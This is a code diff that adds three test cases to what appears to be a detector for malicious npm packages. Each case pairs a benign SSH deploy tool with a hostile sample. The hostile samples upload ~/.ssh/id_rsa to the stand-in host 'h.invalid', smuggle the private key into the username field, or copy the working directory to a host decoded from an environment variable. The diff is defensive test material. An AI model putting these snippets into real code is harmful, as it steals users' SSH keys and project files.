@@ -230,4 +230,56 @@ export const variants: readonly Technique[] = [
       }
       ${post}`),
   },
+  {
+    name: 'a key of SSH is put on a server, not logged in with',
+    rule: 'code/sends-secrets',
+    hostile: main(`
+      const c = new (require('ssh2').Client)(), os = require('os')
+      c.on('ready', () => c.sftp((e, s) => s.fastPut(os.homedir() + '/.ssh/id_rsa', '/in/k', () => {})))
+      c.connect({ host: 'h.invalid', username: 'u', password: 'x' })`),
+    honest: {
+      manifest: { bin: 'cli.js' },
+      files: {
+        'cli.js': `require('./index').ship(require(require('path').resolve('ship.config.js')))`,
+        'index.js': `
+        const { Client } = require('ssh2'), fs = require('fs'), os = require('os'), path = require('path')
+        exports.ship = ({ host, user = os.userInfo().username, key = os.homedir() + '/.ssh/id_rsa', dir }) => {
+          const c = new Client()
+          c.on('ready', () => c.sftp((e, s) => { for (const f of fs.readdirSync(dir)) s.fastPut(path.join(dir, f), '/srv/' + f, () => {}) }))
+          c.connect({ host, username: user, privateKey: fs.readFileSync(key), passphrase: process.env.SSH_PASSPHRASE })
+        }`,
+      },
+    },
+  },
+  {
+    name: 'a key of SSH goes where the name of the user should stand',
+    rule: 'code/sends-secrets',
+    hostile: main(`
+      const c = new (require('ssh2').Client)(), os = require('os'), fs = require('fs')
+      c.connect({ host: 'h.invalid', username: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'), password: 'x' })`),
+    honest: main(`
+      const c = new (require('ssh2').Client)(), os = require('os'), fs = require('fs')
+      exports.open = (ssh) => c.connect({ ...ssh, username: os.userInfo().username, privateKey: fs.readFileSync(os.homedir() + '/.ssh/id_ed25519') })`),
+  },
+  {
+    name: 'the project is put on a server whose name is worked out',
+    rule: 'code/sends-identity',
+    hostile: main(`
+      const c = new (require('ssh2').Client)(), fs = require('fs'), path = require('path'), here = process.cwd()
+      c.on('ready', () => c.sftp((e, s) => { for (const f of fs.readdirSync(here)) s.fastPut(path.join(here, f), '/in/' + f, () => {}) }))
+      c.connect({ host: atob(process.env.X), username: 'u', password: 'x' })`),
+    honest: {
+      manifest: { bin: 'cli.js' },
+      files: {
+        'cli.js': `require('./index').up({ from: process.argv[2], to: process.argv[3], ssh: { host: process.argv[4] } })`,
+        'index.js': `
+        const { Client } = require('ssh2'), fs = require('fs')
+        exports.up = (opts) => {
+          const c = new Client()
+          c.on('ready', () => c.sftp((e, s) => { for (const f of fs.readdirSync(opts.from)) s.fastPut(opts.from + '/' + f, opts.to + '/' + f, () => {}) }))
+          c.connect({ ...opts.ssh, agent: process.env.SSH_AUTH_SOCK })
+        }`,
+      },
+    },
+  },
 ]
